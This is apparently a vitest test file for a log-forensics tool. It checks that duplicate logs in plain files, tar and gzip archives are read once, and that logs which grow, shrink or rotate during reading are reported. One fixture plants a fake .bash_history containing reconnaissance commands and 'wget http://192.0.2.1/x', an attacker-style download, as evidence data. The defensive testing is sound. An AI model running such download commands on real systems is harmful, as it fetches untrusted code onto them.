import { createHash } from 'node:crypto';
import { appendFileSync, mkdirSync, mkdtempSync, renameSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { fc, test as prop } from '@fast-check/vitest';
import { afterAll, beforeEach, expect, test } from 'vitest';
import { makeTar } from '../../test/archives.ts';
import { Zone } from '../core/zone.ts';
import { createDispatch } from '../decode/dispatch.ts';
import { type Custody, gather, type Refusal } from '../evidence/index.ts';
import { parsers } from '../parsers/index.ts';
import { gatherEvents } from './gather-events.ts';
import { KnownContent, TwinFilter } from './same-content.ts';

const folder = mkdtempSync(join(tmpdir(), 'spoor-same-'));
afterAll(() => rmSync(folder, { recursive: true }));
let at: (name: string) => string;
let nth = 0;
beforeEach(() => {
  nth += 1;
  const own = join(folder, String(nth));
  mkdirSync(own);
  at = (name) => `${own}/${name}`;
});

function put(name: string, body: string | Buffer): string {
  mkdirSync(dirname(at(name)), { recursive: true });
  writeFileSync(at(name), body);
  return at(name);
}

const sshd = (index: number) =>
  `2026-03-09T10:${String(index % 60).padStart(2, '0')}:00+00:00 web1 sshd[${index}]: Failed password for root from 203.0.113.${index % 200} port ${1024 + (index % 60_000)} ssh2\n`;
const log = (lines: number, from = 0) => Array.from({ length: lines }, (_, index) => sshd(from + index)).join('');
const LONG = log(48_000); // over 4 MiB
const dispatch = createDispatch(parsers);

/** What was read of each input: [path below the test's folder, lines, why not]. */
async function read(paths: readonly string[], onProgress = (_lines: number) => {}) {
  const custody = new Map<string, Custody>();
  const refusals: Refusal[] = [];
  const { inputs, reports } = await gatherEvents(gather(paths, { onCustody: (one) => custody.set(one.path, one) }), {
    dispatch,
    scan: { zone: 'UTC', hostZones: {}, sinceMs: Number.NEGATIVE_INFINITY, untilMs: Number.POSITIVE_INFINITY },
    endMs: null,
    presentMs: Date.UTC(2026, 2, 20),
    signal: new AbortController().signal,
    onProgress: ({ lines }) => onProgress(lines),
    onRefusal: (refusal) => refusals.push(refusal),
    totalBytes: null,
    workers: 0,
    custody,
  });
  const told = inputs.map(({ path, tasks, refused }) => [
    path.slice(at('').length),
    tasks.reduce((sum, task) => sum + (reports.get(task)?.lines ?? 0), 0),
    refused?.replaceAll(at(''), '') ?? null,
  ]);
  return { told, inputs, refusals };
}

test('a copy is read once, wherever it lies, and is in custody all the same', async () => {
  put('auth.log', log(50));
  put('auth.log.bak', log(50));
  put('tar.tar', makeTar([{ name: 'var/log/auth.log', body: Buffer.from(log(50)) }]));
  put('zipped.gz', gzipSync(log(50)));
  put('zother.log', log(50, 1));
  const { told, inputs, refusals } = await read([at('')]);
  expect(told).toEqual([
    ['auth.log', 50, null],
    ['auth.log.bak', 0, 'the same content as auth.log'],
    ['tar.tar!/var/log/auth.log', 0, 'the same content as auth.log'],
    ['zipped.gz', 0, 'the same content as auth.log'],
    ['zother.log', 50, null],
  ]);
  const sha256 = createHash('sha256').update(log(50)).digest('hex');
  expect(inputs[1]).toMatchObject({ sha256, size: log(50).length, code: null });
  expect(refusals).toEqual([]);
});

test('so are long ones, and others that only begin alike or are as long are read', async () => {
  const lines = LONG.length / 112;
  put('a.log', LONG);
  put('b.log', LONG);
  put('c.log', `${LONG.slice(0, -20)}${'x'.repeat(19)}\n`);
  put('d.tgz', gzipSync(makeTar([{ name: 'a', body: Buffer.from(LONG) }])));
  put('e.gz', gzipSync(LONG.slice(0, LONG.length / 2)));
  put('f.gz', gzipSync(LONG + sshd(1)));
  const { told } = await read([at('')]);
  expect(told.map(([path, count, why]) => [path, (count as number) > lines / 3, why])).toEqual([
    ['a.log', true, null],
    ['b.log', false, 'the same content as a.log'],
    ['c.log', true, null],
    ['d.tgz!/a', false, 'the same content as a.log'],
    ['e.gz', true, null],
    ['f.gz', true, null],
  ]);
  const turned = await read([at('d.tgz'), at('a.log')]);
  expect(turned.told.map(([path, , why]) => [path, why])).toEqual([
    ['a.log', 'the same content as d.tgz!/a'],
    ['d.tgz!/a', null],
  ]);
});

test('empty logs, and what two hosts have alike without a name in it, are each a fact', async () => {
  put('a.log', '');
  put('b.log', '');
  const commands = 'id\nuname -a\nwget http://192.0.2.1/x\n';
  for (const host of ['web1', 'web2']) put(`${host}/root/.bash_history`, commands);
  for (const host of ['web1', 'web2']) put(`${host}/var/log/auth.log`, log(5));
  put('web1/root/.bash_history.bak', commands);
  const { told } = await read([at('')]);
  expect(told).toEqual([
    ['a.log', 0, null],
    ['b.log', 0, null],
    ['web1/root/.bash_history', 3, null],
    ['web1/root/.bash_history.bak', 0, 'the same content as web1/root/.bash_history'],
    ['web1/var/log/auth.log', 5, null],
    ['web2/root/.bash_history', 3, null],
    ['web2/var/log/auth.log', 0, 'the same content as web1/var/log/auth.log'],
  ]);
});

test('a copy of what is no log is no log', async () => {
  put('a', '\x7fELF and so on');
  put('b', '\x7fELF and so on');
  expect((await read([at('')])).told).toEqual([
    ['a', 0, 'a program'],
    ['b', 0, 'a program'],
  ]);
});

test.each<[string, (path: string) => void, RegExp | null]>([
  ['grows', (path) => appendFileSync(path, log(3)), null],
  ['is cut', (path) => truncateSync(path, 1000), /^changed while it was read: it shrank/],
  [
    'is emptied and grows again',
    (path) => writeFileSync(path, log(50_000, 7)),
    /^changed while it was read: it begins with something else$/,
  ],
  [
    'is rotated',
    (path) => {
      renameSync(path, `${path}.1`);
      writeFileSync(path, log(1));
    },
    /^changed while it was read: another file took its place$/,
  ],
])('a long log that %s while it is read', async (_what, happens, told) => {
  const path = put('auth.log', LONG);
  let done = false;
  const { inputs, told: lines } = await read([path], () => {
    if (!done) happens(path);
    done = true;
  });
  if (told === null) {
    expect(lines).toEqual([['auth.log', 48_000, null]]);
    const sha256 = createHash('sha256').update(LONG).digest('hex');
    expect(inputs).toMatchObject([{ size: LONG.length, sha256 }]);
  } else expect(inputs[0]?.refused).toMatch(told);
  expect(lines[0]?.[1]).toBeGreaterThan(0); // what was read is kept
});

const disk = join(folder, 'known.log');
writeFileSync(disk, LONG);

async function filtered(body: Buffer, sizes: readonly number[]): Promise<{ passed: Buffer; same: string | null }> {
  const known = new KnownContent(new Zone('UTC'), () => '');
  const sum = { size: LONG.length, sha256: 'known' };
  const head = Buffer.from(LONG.slice(0, 70_000));
  await known.add({ path: 'known', head, size: LONG.length, file: disk, sum: async () => sum });
  async function* blocks(): AsyncGenerator<Buffer> {
    for (let from = 0, next = 0; from < body.length; next += 1) {
      const size = sizes[next % sizes.length] ?? 1;
      yield body.subarray(from, from + size);
      from += size;
    }
  }
  const filter = new TwinFilter(known, 'other', () => false);
  const passed: Buffer[] = [];
  for await (const block of filter.pass(blocks())) passed.push(Buffer.from(block));
  return { passed: Buffer.concat(passed), same: filter.same };
}

prop.prop([fc.nat(LONG.length + 100_000), fc.array(fc.integer({ min: 1000, max: 3_000_000 }), { minLength: 1 })], {
  numRuns: 25,
})('content passes unchanged from wherever it differs, in whatever blocks it comes', async (differs, sizes) => {
  const body = Buffer.from(`${LONG}${log(1000)}`.slice(0, LONG.length + 90_000));
  if (differs < body.length) body.writeUInt8(body.readUInt8(differs) ^ 1, differs);
  const { passed, same } = await filtered(body, sizes);
  expect([passed.equals(body), same]).toEqual([true, null]);
});

prop.prop([fc.nat(LONG.length - 1), fc.array(fc.integer({ min: 1000, max: 3_000_000 }), { minLength: 1 })], {
  numRuns: 15,
})('a part of known content is no copy, all of it is', async (length, sizes) => {
  const part = Buffer.from(LONG.slice(0, length));
  const cut = await filtered(part, sizes);
  expect([cut.passed.equals(part), cut.same]).toEqual([true, null]);
  expect(await filtered(Buffer.from(LONG), sizes)).toEqual({ passed: Buffer.alloc(0), same: 'known' });
});
